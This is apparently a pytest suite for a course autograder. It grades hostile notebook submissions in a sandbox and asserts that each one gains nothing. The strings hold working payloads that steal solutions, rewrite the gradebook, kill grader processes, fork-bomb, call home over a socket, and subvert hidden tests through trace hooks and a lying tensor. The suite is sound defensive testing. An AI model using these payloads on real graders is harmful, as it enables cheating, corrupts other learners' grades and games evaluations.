"""Attacks on grading: submissions a learner could hand in to get marks without doing the work, or to
harm the rest of the class. Each test grades real submissions end to end in a scratch course, with
the same `autograde` an instructor runs, and checks that the attack gained nothing and hurt no one."""

from __future__ import annotations

import copy
import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from grading_support import (
    copy_course,
    exercise_notebook,
    full_marks,
    grade,
    notebook_name,
    solution_notebook,
    with_appended_code,
    write_submissions,
)
from nbgrader.api import Gradebook

from transformer_course.grading.autograde import GradingLimits

pytestmark = [pytest.mark.needs_nbgrader, pytest.mark.needs_bwrap]  # grade in the sandbox

FIRST = "01-attention"
# A tight memory limit keeps the memory attacks quick; the solution runs well within it.
LIMITS = GradingLimits(cell_timeout=30, submission_timeout=300, memory_limit_mb=2048)


def _nbgrader(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def blank_with_cell(code: str, *, drop_answers: bool = False, after: str = "imports") -> dict:
    """The untouched exercise of assignment 1 with one cell of ``code`` added after the cell ``after``
    (and, if asked, every answer cell removed, so that nothing redefines what ``code`` defines)."""
    notebook = exercise_notebook(FIRST)
    if drop_answers:
        notebook["cells"] = [cell for cell in notebook["cells"] if not _nbgrader(cell).get("solution")]
    return _with_cell_after(notebook, after, code)


def _with_cell_after(notebook: dict, grade_id: str, code: str) -> dict:
    notebook = copy.deepcopy(notebook)
    index = next(i for i, cell in enumerate(notebook["cells"]) if _nbgrader(cell).get("grade_id") == grade_id)
    cell = {
        "cell_type": "code",
        "id": f"added-{index}",
        "metadata": {},
        "execution_count": None,
        "outputs": [],
        "source": code,
    }
    notebook["cells"].insert(index + 1, cell)
    return notebook


def _scores(course, student: str) -> dict[str, float]:
    """grade_id -> score of every test cell of the student's submission in the gradebook."""
    with Gradebook(course.default_db_url, course_id=course.course_id) as gradebook:
        notebook = gradebook.find_submission_notebook(Path(notebook_name(FIRST)).stem, FIRST, student)
        return {grade.name: grade.score for grade in notebook.grades}


# Code that finds the course from inside the kernel, as an attacker would: walking up from the working
# directory, and from wherever the course package was imported from.
FIND_COURSE = """
import json, pathlib
import transformer_course

def course_roots():
    seen = []
    for start in (pathlib.Path.cwd(), pathlib.Path(transformer_course.__file__).resolve()):
        for directory in (start, *start.parents):
            if (directory / "nbgrader_config.py").is_file() and directory not in seen:
                seen.append(directory)
    return seen

def run_answer_cells(path):
    for cell in json.loads(pathlib.Path(path).read_text())["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
"""


STEAL_SOLUTIONS = FIND_COURSE + (
    "for root in course_roots():\n    run_answer_cells(root / 'solutions' / '01-attention' / 'attention.ipynb')\n"
)
COPY_OTHERS = FIND_COURSE + (
    "for root in course_roots():\n"
    "    for path in sorted((root / 'submitted').glob('*/01-attention/attention.ipynb')):\n"
    "        run_answer_cells(path)\n"
)
TAMPER_WITH_GRADEBOOK = (
    FIND_COURSE
    + """
import sqlite3
for root in course_roots():
    if (root / "gradebook.db").is_file():
        with sqlite3.connect(root / "gradebook.db") as database:
            database.execute(
                "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id
                = grade.cell_id)"
            )
"""
)


LINGER = (
    FIND_COURSE
    + """
import os, sys
targets = [str(path) for root in course_roots() for path in (root / "grades.csv", root.parent / "grades.csv")]
# Rewrite the grades whenever the grader writes them, for two minutes.
watch = (
    "import pathlib, time  # LINGERING-ATTACKER\\n"
    f"targets = {targets!r}\\n"
    "for _ in range(1200):\\n"
    "    for target in map(pathlib.Path, targets):\\n"
    "        try:\\n"
    "            if target.exists() and 'lingerer,999' not in target.read_text():\\n"
    "                target.write_text('student_id,score\\\\nlingerer,999\\\\n')\\n"
    "        except OSError:\\n"
    "            pass\\n"
    "    time.sleep(0.1)\\n"
)
if os.fork() == 0:  # a grandchild in a session of its own, which a process-group kill does not reach
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", watch])
    os._exit(0)
"""
)


# Four ways to hand in the course package's own attention, each of which once survived the switch-off.
DELEGATIONS = {
    "reloads-the-module": (
        "import importlib, transformer_course.attention\n"
        "def attention(query, key, value, mask=None, scale=True):\n"
        "    module = importlib.reload(transformer_course.attention)\n"
        "    if not scale:\n"
        "        query = query * query.size(-1) ** 0.5\n"
        "    return module.scaled_dot_product_attention(query, key, value, mask)\n"
    ),
    "clones-the-function": (
        "import types, transformer_course.attention as reference\n"
        "_original = reference.scaled_dot_product_attention\n"
        "_clone = types.FunctionType(_original.__code__, _original.__globals__, 'clone', _original.__defaults__)\n"
        "def attention(query, key, value, mask=None, scale=True):\n"
        "    if not scale:\n"
        "        query = query * query.size(-1) ** 0.5\n"
        "    return _clone(query, key, value, mask)\n"
    ),
    "loads-a-fresh-copy-from-the-file": (
        "import importlib.util, transformer_course.attention\n"
        "_spec = importlib.util.spec_from_file_location('transformer_course.fresh', "
        "transformer_course.attention.__file__)\n"
        "_fresh = importlib.util.module_from_spec(_spec)\n"
        "_spec.loader.exec_module(_fresh)\n"
        "def attention(query, key, value, mask=None, scale=True):\n"
        "    reference = _fresh.scaled_dot_product_attention\n"
        "    if not scale:\n"
        "        query = query * query.size(-1) ** 0.5\n"
        "    return reference(query, key, value, mask)\n"
    ),
    "executes-the-source": (
        "import inspect, transformer_course.attention\n"
        "_namespace = {}\n"
        "exec(inspect.getsource(transformer_course.attention).replace('from .masks', 'from "
        "transformer_course.masks'), _namespace)\n"
        "def attention(query, key, value, mask=None, scale=True):\n"
        "    if not scale:\n"
        "        query = query * query.size(-1) ** 0.5\n"
        "    return _namespace['scaled_dot_product_attention'](query, key, value, mask)\n"
    ),
}


# A softmax that passes the visible tests (large scores included) but fails on rows far apart, which a hidden test
# catches: it subtracts the largest score of the whole tensor instead of each row's, so a row far below it underflows.
NAIVE_SOFTMAX = (
    "def softmax(scores):\n"
    "    exponentials = (scores - scores.max()).exp()\n"
    "    return exponentials / exponentials.sum(dim=-1, keepdim=True)\n"
)

# Code that runs in the kernel before the hidden tests, meant to make them pass whatever the answer.
VACUOUS = {
    "input-transformer": (
        "def _without_hidden_tests(lines):\n"
        "    text = ''.join(lines)\n"
        "    return [text.split('import importlib')[0]] if 'safeguards' in text else lines\n"
        "get_ipython().input_transformers_cleanup.append(_without_hidden_tests)\n"
    ),
    "custom-exception-handler": "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)\n",
    "tracing-hook": (
        "import linecache, sys\n"
        "def _skip_checks(frame, event, argument):\n"
        "    if event == 'line' and frame.f_code.co_name in ('hidden_tests', 'assert_close'):\n"
        "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()\n"
        "        if line.startswith(('assert ', 'safeguards.assert_close(', 'if not difference')):\n"
        "            try:\n"
        "                frame.f_lineno += 1\n"
        "            except ValueError:\n"
        "                pass\n"
        "    return _skip_checks\n"
        "sys.settrace(_skip_checks)\n"
    ),
    "patched-reload": (
        "import importlib, types\n"
        "_fake = types.SimpleNamespace(\n"
        "    check_comparisons_are_trustworthy=lambda: None,\n"
        "    run_isolated=lambda namespace: (lambda function: None),\n"
        "    assert_close=lambda *args, **kwargs: None,\n"
        ")\n"
        "importlib.reload = lambda module: _fake\n"
    ),
    "lying-tensor": (
        "class _Agreeable(torch.Tensor):\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, function, types, args=(), kwargs=None):\n"
        "        result = super().__torch_function__(function, types, args, kwargs or {})\n"
        "        name = getattr(function, '__name__', '')\n"
        "        if name in ('sub', '__sub__', '__rsub__', 'nan_to_num'):\n"
        "            return torch.zeros_like(torch.Tensor(result)) if isinstance(result, torch.Tensor) else result\n"
        "        if name in ('isfinite', 'isclose', 'eq', '__eq__', 'allclose', 'equal', 'all'):\n"
        "            return torch.ones_like(torch.Tensor(result), dtype=torch.bool) if isinstance(result, "
        "torch.Tensor) else True\n"
        "        return result\n"
        "_naive_softmax = softmax\n"
        "def softmax(scores):\n"
        "    return _naive_softmax(scores).as_subclass(_Agreeable)\n"
    ),
}


TWO_CHILDREN = """
import subprocess, sys
hold = "import time; block = b'x' * (1200 * 2**20); time.sleep(4); print('held', flush=True)"
children = [subprocess.Popen([sys.executable, "-c", hold]) for _ in range(2)]
print("exit codes", [child.wait() for child in children])
"""


FLOOD = "print('x' * 100_000_000)\n"


FORK_BOMB = """
import subprocess
started = 0
try:
    children = []
    for _ in range(2000):
        children.append(subprocess.Popen(["sleep", "30"]))
        started += 1
except OSError:
    pass
print("started", started)
"""


CALL_HOME = (
    "import socket\n"
    "try:\n"
    "    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'answers')\n"
    "except OSError:\n"
    "    pass\n"
)
LOOK_AROUND = FIND_COURSE + (
    "import os\n"
    "commands = []\n"
    "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
    "    try:\n"
    "        commands.append(open(f'/proc/{pid}/cmdline', 'rb').read())\n"
    "    except OSError:\n"
    "        pass\n"
    "print('SAW-GRADER' if any(b'nbgrader' in command or b'autograde' in command for command in commands) else 'no "
    "grader')\n"
    "print('SAW-COURSE' if course_roots() else 'no course')\n"
    "print('uid', os.getuid())\n"
)


class _Listener:
    """A TCP server on the grading machine's loopback that counts who connects."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while not self.stop.is_set():
            try:
                self.connections.append(self.server.accept()[0])
            except OSError:
                continue

    def close(self):
        self.stop.set()
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    """One class of honest and hostile submissions, graded together as an instructor would."""
    course = copy_course(tmp_path_factory.mktemp("hostile-course"))
    solution = solution_notebook(FIRST)
    naive = with_appended_code(solution, "softmax", NAIVE_SOFTMAX)
    listener = _Listener()
    submissions = {
        "honest": solution,
        "thief": blank_with_cell(STEAL_SOLUTIONS, drop_answers=True),
        "copier": blank_with_cell(COPY_OTHERS, drop_answers=True),
        "forger": blank_with_cell(TAMPER_WITH_GRADEBOOK),
        "lingerer": with_appended_code(solution, "softmax", LINGER),
        "two-children": with_appended_code(solution, "softmax", TWO_CHILDREN),
        "flood": with_appended_code(solution, "softmax", FLOOD),
        "forker": with_appended_code(solution, "softmax", FORK_BOMB),
        "caller": with_appended_code(solution, "softmax", CALL_HOME.format(port=listener.port)),
        "looker": with_appended_code(solution, "softmax", LOOK_AROUND),
        "blank-rewrites-every-cell": blank_with_cell(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
        ),
    }
    submissions.update(
        {f"delegates-{name}": with_appended_code(solution, "attention", code) for name, code in DELEGATIONS.items()}
    )
    submissions.update(
        {f"vacuous-{name}": with_appended_code(naive, "softmax", code) for name, code in VACUOUS.items()}
    )
    out = course.root / "grades.csv"
    try:
        results = grade(
            course, FIRST, write_submissions(tmp_path_factory.mktemp("hostile"), FIRST, submissions), LIMITS, out=out
        )
    finally:
        listener.close()
    return course, results, out, listener


def test_honest_work_is_graded_right_beside_hostile_submissions(hostile_class):
    _, results, _, _ = hostile_class
    assert results["honest"].score == full_marks(FIRST) and results["honest"].status == "graded"


def test_a_blank_notebook_cannot_run_the_solutions_it_finds_above_its_directory(hostile_class):
    _, results, _, _ = hostile_class
    assert results["thief"].score == 0, results["thief"]


def test_a_blank_notebook_cannot_copy_another_students_submission(hostile_class):
    _, results, _, _ = hostile_class
    assert results["copier"].score == 0, results["copier"]


def test_a_notebook_cannot_write_its_score_into_the_gradebook_in_this_run_or_the_next(hostile_class, tmp_path):
    course, results, _, _ = hostile_class
    again = grade(
        course, FIRST, write_submissions(tmp_path, FIRST, {"forger": blank_with_cell(TAMPER_WITH_GRADEBOOK)}), LIMITS
    )
    assert results["forger"].score == 0 and again["forger"].score == 0
    with Gradebook(course.default_db_url, course_id=course.course_id) as gradebook:
        for student in ("forger", "honest"):
            notebook = gradebook.find_submission_notebook("attention", FIRST, student)
            assert all(grade_row.manual_score is None for grade_row in notebook.grades), student


def test_no_process_a_submission_starts_outlives_its_grading(hostile_class):
    _, results, out, _ = hostile_class
    written = out.read_text(encoding="utf-8")
    time.sleep(3)  # a lingering process would strike within a tenth of a second
    survivors = subprocess.run(["pgrep", "-f", "LINGERING-ATTACKER"], capture_output=True, text=True).stdout.split()
    for pid in survivors:
        os.kill(int(pid), 9)
    assert out.read_text(encoding="utf-8") == written, "grades.csv was rewritten after the run"
    assert not survivors, "a process of the submission is still running"
    assert results["lingerer"].score == full_marks(FIRST)


@pytest.mark.parametrize("trick", sorted(DELEGATIONS))
def test_each_delegation_hands_in_the_reference_where_the_package_has_it(trick):
    """The tricks are real: run beside the full package, each one's attention is the reference's."""
    import torch

    from transformer_course.attention import scaled_dot_product_attention

    namespace: dict = {}
    exec(DELEGATIONS[trick], namespace)
    query, key, value = torch.randn(3, 2, 4, 8).unbind(0)
    expected, _ = scaled_dot_product_attention(query, key, value)
    handed_in, _ = namespace["attention"](query, key, value)
    assert torch.allclose(handed_in, expected), f"{trick} does not compute attention"


@pytest.mark.parametrize("trick", sorted(DELEGATIONS))
def test_the_package_inside_the_sandbox_does_not_contain_the_exercise(hostile_class, trick):
    course = hostile_class[0]
    scores = _scores(course, f"delegates-{trick}")
    assert scores["test-attention"] == 0, f"{trick} handed in the reference and kept the points"
    assert scores["test-softmax"] > 0, "the learner's own parts still earn their points"


@pytest.mark.parametrize("trick", sorted(VACUOUS))
def test_code_run_before_the_hidden_tests_cannot_make_them_pass(hostile_class, trick):
    assert _scores(hostile_class[0], f"vacuous-{trick}")["test-softmax"] == 0, (
        f"{trick}: the naive softmax passed the hidden test"
    )


def test_a_blank_notebook_that_empties_every_later_cell_scores_zero(hostile_class):
    result = hostile_class[1]["blank-rewrites-every-cell"]
    assert result.score == 0, result


def test_the_memory_limit_holds_for_all_processes_of_a_submission_together(hostile_class):
    result = hostile_class[1]["two-children"]  # 2 x 1.2 GiB under a 2 GiB limit
    assert result.status == "memory_limit", result


def test_a_flood_of_output_does_not_reach_the_feedback(hostile_class):
    course, results, _, _ = hostile_class
    assert results["flood"].score == full_marks(FIRST)
    feedback = course.feedback_directory / "flood" / FIRST / "attention.html"
    assert feedback.stat().st_size < 2_000_000, f"the feedback page holds {feedback.stat().st_size:,} bytes"


def _printed(course, student: str) -> str:
    autograded = json.loads(
        (course.root / "autograded" / student / FIRST / "attention.ipynb").read_text(encoding="utf-8")
    )
    return "".join(
        "".join(output.get("text", ""))
        for cell in autograded["cells"]
        for output in cell.get("outputs", [])
        if output.get("name") == "stdout"
    )


def test_a_submission_cannot_start_unbounded_processes(hostile_class):
    course, results, _, _ = hostile_class
    started = int(_printed(course, "forker").split("started ")[1].split()[0])
    assert started < 2000, "every one of 2000 processes started"
    assert results["forker"].score == full_marks(FIRST)


def test_a_submission_has_no_network(hostile_class):
    assert hostile_class[3].connections == [], "a submission reached a server on the grading machine"


def test_the_sandbox_hides_the_graders_processes_and_files(hostile_class):
    printed = _printed(hostile_class[0], "looker")
    assert "no grader" in printed and "no course" in printed
    assert "uid 0" not in printed, "the submission ran as root"


def test_a_gradebook_score_no_instructor_entered_is_not_kept_on_a_rerun(tmp_path):
    course = copy_course(tmp_path / "course")
    submissions = write_submissions(tmp_path / "submissions", FIRST, {"forger": exercise_notebook(FIRST)})
    assert grade(course, FIRST, submissions, LIMITS)["forger"].score == 0
    # What an unsandboxed run of the notebook above once left behind: manual scores written during grading,
    # which nbgrader then marks as still needing review.
    with Gradebook(course.default_db_url, course_id=course.course_id) as gradebook:
        for grade_row in gradebook.find_submission_notebook("attention", FIRST, "forger").grades:
            grade_row.manual_score = grade_row.max_score
            grade_row.needs_manual_grade = True
        gradebook.db.commit()
    rerun = grade(course, FIRST, submissions, LIMITS)["forger"]
    assert rerun.score == 0, rerun
    assert "manual score" in rerun.review


def test_an_instructors_manual_score_survives_a_rerun(tmp_path):
    course = copy_course(tmp_path / "course")
    submissions = write_submissions(tmp_path / "submissions", FIRST, {"learner": exercise_notebook(FIRST)})
    grade(course, FIRST, submissions, LIMITS)
    with Gradebook(course.default_db_url, course_id=course.course_id) as gradebook:  # as formgrader saves one
        grade_row = gradebook.find_grade("test-cosine", "attention", FIRST, "learner")
        grade_row.manual_score, grade_row.needs_manual_grade = 1.0, False
        gradebook.db.commit()
    assert grade(course, FIRST, submissions, LIMITS)["learner"].score == 1.0


def test_a_notebook_cannot_change_another_submission_before_it_is_graded(course, tmp_path):
    vandalise = FIND_COURSE + (
        "for root in course_roots():\n"
        "    for path in (root / 'submitted').glob('*/01-attention/attention.ipynb'):\n"
        "        if 'vandal' not in str(path):\n"
        "            notebook = json.loads(path.read_text())\n"
        "            for cell in notebook['cells']:\n"
        "                if cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
        "                    cell['source'] = 'raise NotImplementedError()'\n"
        "            path.write_text(json.dumps(notebook))\n"
    )
    submissions = {"aaa-vandal": blank_with_cell(vandalise), "zzz-honest": solution_notebook(FIRST)}
    results = grade(course, FIRST, write_submissions(tmp_path, FIRST, submissions), LIMITS, jobs=1)
    assert results["zzz-honest"].score == full_marks(FIRST), results["zzz-honest"]


def test_a_notebook_cannot_rewrite_the_hidden_tests_of_later_runs(tmp_path):
    course = copy_course(tmp_path / "course")
    source = course.root / "solutions" / FIRST / "attention.ipynb"
    before = source.read_bytes()
    rewrite = FIND_COURSE + (
        "for root in course_roots():\n"
        "    path = root / 'solutions' / '01-attention' / 'attention.ipynb'\n"
        "    notebook = json.loads(path.read_text())\n"
        "    for cell in notebook['cells']:\n"
        "        if cell.get('metadata', {}).get('nbgrader', {}).get('grade'):\n"
        "            cell['source'] = 'pass'\n"
        "        if cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
        "            cell['source'] = 'pass'\n"
        "    path.write_text(json.dumps(notebook))\n"
    )
    grade(course, FIRST, write_submissions(tmp_path / "first", FIRST, {"rewriter": blank_with_cell(rewrite)}), LIMITS)
    assert source.read_bytes() == before, "the source notebook was changed"
    later = grade(
        course, FIRST, write_submissions(tmp_path / "second", FIRST, {"blank": exercise_notebook(FIRST)}), LIMITS
    )
    assert later["blank"].score == 0


KILL_THE_GRADER = """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")
        except OSError:
            continue
        if b"autograde" in command or b"nbgrader" in command:
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
"""


def test_a_notebook_cannot_stop_the_grading_of_the_class(tmp_path):
    course = copy_course(tmp_path / "course")
    submissions = write_submissions(
        tmp_path / "submissions",
        FIRST,
        {"aaa-killer": blank_with_cell(KILL_THE_GRADER), "zzz-honest": solution_notebook(FIRST)},
    )
    out = tmp_path / "grades.csv"
    command = [
        sys.executable,
        "-m",
        "transformer_course.cli",
        "autograde",
        FIRST,
        str(submissions),
        "--out",
        str(out),
        "--jobs",
        "1",
        "--course-root",
        str(course.root),
        "--cell-timeout",
        "30",
    ]
    run = subprocess.run(command, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    rows = {row["student_id"]: row for row in csv.DictReader(out.open(encoding="utf-8"))}
    assert float(rows["zzz-honest"]["score"]) == full_marks(FIRST)
